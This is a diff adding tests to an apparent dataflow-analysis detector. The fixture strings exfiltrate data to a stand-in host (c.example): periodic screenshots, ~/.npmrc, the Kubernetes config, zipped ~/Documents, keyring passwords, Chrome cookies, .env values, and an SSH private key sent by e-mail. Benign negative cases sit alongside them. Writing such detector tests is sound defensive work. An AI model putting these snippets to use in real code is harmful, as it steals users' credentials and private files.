@@ -285,5 +285,35 @@ describe('dataflow analysis', () => {
       assert.deepEqual(flows, []);
     });
   });
-});
 
+  describe('callbacks, file transfers and more sources', () => {
+    it('walks callbacks handed to timers and event handlers (JavaScript)', async () => {
+      const timer = "const screenshot = require('screenshot-desktop');\nsetInterval(async () => {\n  const img = await screenshot();\n  await fetch('https://c.example/i', { method: 'POST', body: img });\n}, 1000);\n";
+      assert.deepEqual(summary(await flowsOf('javascript', timer)), ['privacy: a screen capture -> network']);
+      const handler = "const fs = require('fs');\nprocess.on('exit', function () {\n  fetch('https://c.example/k', { method: 'POST', body: fs.readFileSync(require('os').homedir() + '/.npmrc', 'utf8') });\n});\n";
+      assert.deepEqual(summary(await flowsOf('javascript', handler)), ['secret: git or package-registry credentials -> network']);
+      const quiet = "setTimeout(() => console.log(process.env.HOME), 10);\n[1, 2].forEach((n) => fetch('https://c.example/n?i=' + n));\n";
+      assert.deepEqual(await flowsOf('javascript', quiet), []);
+    });
+
+    it('reads files named by path in SFTP, FTP and object-storage uploads (Python)', async () => {
+      const sftp = "import os, paramiko\nsftp = paramiko.SFTPClient.from_transport(t)\nsftp.put(os.path.expanduser('~/.kube/config'), '/drop/kc')\n";
+      assert.deepEqual(summary(await flowsOf('python', sftp)), ['secret: the Kubernetes config -> network']);
+      const ftp = "import shutil, os, ftplib\narchive = shutil.make_archive('build/docs', 'zip', os.path.expanduser('~/Documents'))\nftp = ftplib.FTP('ftp.c.example')\nwith open(archive, 'rb') as fh:\n    ftp.storbinary('STOR d.zip', fh)\n";
+      assert.deepEqual(summary(await flowsOf('python', ftp)), ["privacy: the user's personal folders -> network"]);
+      const own = "import boto3, shutil\narchive = shutil.make_archive('out/site', 'zip', 'public')\ns3 = boto3.client('s3')\ns3.upload_file(archive, 'my-bucket', 'site.zip')\nsftp.put('coverage.xml', '/reports/coverage.xml')\n";
+      assert.deepEqual(await flowsOf('python', own), []);
+    });
+
+    it('takes keyring passwords, browser cookie jars and dotenv_values as sources, and e-mail attachments as payload (Python)', async () => {
+      const keyring = "import keyring, requests\npw = keyring.get_password('github.com', 'me')\nrequests.post('https://c.example/k', data={'p': pw})\n";
+      assert.deepEqual(summary(await flowsOf('python', keyring)), ['secret: a password from the system keyring -> network']);
+      const cookies = "import browser_cookie3, requests\njar = browser_cookie3.chrome()\nrequests.post('https://c.example/b', data={'c': str(list(jar))})\n";
+      assert.deepEqual(summary(await flowsOf('python', cookies)), ['secret: browser cookies -> network']);
+      const dotenv = "import requests\nfrom dotenv import dotenv_values\nrequests.Session().post('https://c.example/e', json=dotenv_values('.env'))\n";
+      assert.deepEqual(summary(await flowsOf('python', dotenv)).map((line) => line.split(' -> ')[1]), ['network']);
+      const mail = "import smtplib, os\nfrom email.message import EmailMessage\nmsg = EmailMessage()\nwith open(os.path.expanduser('~/.ssh/id_rsa'), 'rb') as fh:\n    msg.add_attachment(fh.read(), maintype='application', subtype='octet-stream')\nwith smtplib.SMTP('smtp.c.example') as s:\n    s.send_message(msg)\n";
+      assert.deepEqual(summary(await flowsOf('python', mail)), ['secret: the SSH private key -> mail']);
+    });
+  });
+});
